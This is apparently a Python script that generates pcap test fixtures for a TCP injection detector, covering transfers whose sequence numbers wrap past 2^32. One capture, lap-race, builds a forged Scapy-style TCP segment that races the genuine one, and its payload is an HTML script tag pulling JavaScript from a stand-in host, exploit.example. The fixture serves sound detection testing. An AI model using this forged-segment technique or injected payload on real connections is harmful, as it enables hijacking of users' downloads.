#!/usr/bin/python3
"""Writes captures/lap-*.pcap: long transfers whose sequence numbers come round the
4 GiB space between two captured packets (tcp_injection must not compare bytes of
different laps, and must still find a race within one lap).

A Linux client (192.0.2.10) downloads a large file from a Linux server (198.51.100.20,
about 14 hops away) over a 10 Gbit/s path, both with TCP timestamps on a 1 kHz clock.
The capture is sampled: it keeps one data segment (1448 bytes) in about 860, one a
millisecond, so each captured segment lies about 1.25 MB beyond the one before, and
the client's ACK of it. The file's bytes depend on their position in the file, so the
same sequence numbers a lap apart carry other bytes. Frames 1-4 are SYN, SYN/ACK, ACK
and the GET; "S" is the server's first data sequence number.

  lap-benign-gap  5-24 ten sampled segments, 1 ms apart, each followed by the client's
                  ACK; then the capture loses 3.6 s of the burst (4.5 GB: more than a
                  lap); 25-30 three more sampled segments and ACKs, the first one
                  2^32 + 724 bytes after the last captured segment began, so under
                  32-bit sequence numbers it overlaps that segment's last 724 bytes
                  with other bytes; its TSval is 3600 ticks newer; 31-33 close. Silent;
                  flows.seq_laps 1.
  lap-race        as lap-benign-gap up to frame 30; 31 a forged segment (Scapy-style
                  shooter: TTL 64, IP-ID 1, DF clear, window 8192, no options) at the
                  next 1448 bytes of the stream; 32 the genuine segment at the same
                  sequence numbers 300 us later; 33 the client's duplicate ACK;
                  34-36 close. tcp_injection high, frame 31 forged, at a stream offset
                  beyond 2^32.
"""

from scapy.all import IP, TCP

import goldenlib as g

C, S = g.CLIENT, g.SERVER
MS, US = g.MS, g.US
M32 = 0xFFFFFFFF
MSS = 1448
STRIDE = 1250000  # stream bytes between two sampled segments: 10 Gbit/s for 1 ms
SAMPLED = 860     # segments the sender sent per captured one

REQUEST = (b"GET /images/debian-12.4.0-amd64-DVD-1.iso HTTP/1.1\r\n"
           b"Host: mirror.example.net\r\nUser-Agent: Wget/1.21.3\r\nAccept: */*\r\n"
           b"Accept-Encoding: identity\r\nConnection: Keep-Alive\r\n\r\n")


def content(off, n):
    """The file's bytes at stream offsets [off, off + n): they depend on the lap too."""
    return bytes(((x * 131) + (x >> 11) * 7 + (x >> 32) * 91) & 0xFF
                 for x in range(off, off + n))


def sampled(cv, s, off, dt=1 * MS):
    """One captured data segment at stream offset `off` and the client's ACK of it."""
    cv.ipid[S] += SAMPLED - 1  # the segments the capture did not keep
    seg = cv.seg(S, "A", content(off, MSS), dt=dt, seq=s + off)
    ack = cv.seg(C, "A", dt=40 * US, ack=(s + off + MSS) & M32)
    return [seg, ack]


def transfer(sport):
    """Frames 1-30 of both captures; returns them, the conversation and where the
    stream stands (the next offset after the last captured segment)."""
    cv = g.linux_conv(sport)
    pkts = cv.handshake() + [cv.seg(C, "PA", REQUEST, dt=200 * US)]
    s = cv.nxt[S]
    off = 0
    for k in range(10):
        pkts += sampled(cv, s, off, dt=25 * MS if k == 0 else 1 * MS)
        off += STRIDE
    last = off - STRIDE
    # 3.6 s of the burst not captured: 4.5 GB at 10 Gbit/s, more than one lap.
    off = last + (1 << 32) + MSS // 2
    cv.ipid[S] += 3600 * SAMPLED
    pkts += sampled(cv, s, off, dt=3600 * MS)
    for _ in range(2):
        off += STRIDE
        pkts += sampled(cv, s, off)
    return pkts, cv, s, off + MSS


def lap_benign_gap():
    pkts, cv, _, _ = transfer(50201)
    pkts += cv.close()
    assert len(pkts) == 33
    return g.on_ether(pkts)


def lap_race():
    pkts, cv, s, off = transfer(50202)
    cv.now += 1 * MS
    forged = g.Pkt(cv.now, S, IP(src=cv.addr[S], dst=cv.addr[C], ttl=64, id=1, flags=0)
                   / TCP(sport=cv.port[S], dport=cv.port[C], seq=(s + off) & M32,
                         ack=cv.nxt[C], flags="PA", window=8192, options=[])
                   / (b"<script src=\"http://exploit.example/landing/7f3a.js\"></script>\n"
                      * 23)[:MSS])
    pkts.append(forged)
    pkts.append(cv.seg(S, "A", content(off, MSS), dt=300 * US, seq=s + off))
    pkts.append(cv.seg(C, "A", dt=40 * US, sack=[(s + off, s + off + MSS)]))
    pkts += cv.close()
    assert len(pkts) == 36
    return g.on_ether(pkts)


def main():
    eth = g.LINKTYPE_ETHERNET
    g.write("lap-benign-gap.pcap", g.pcap(eth, lap_benign_gap()))
    g.write("lap-race.pcap", g.pcap(eth, lap_race()))


if __name__ == "__main__":
    main()
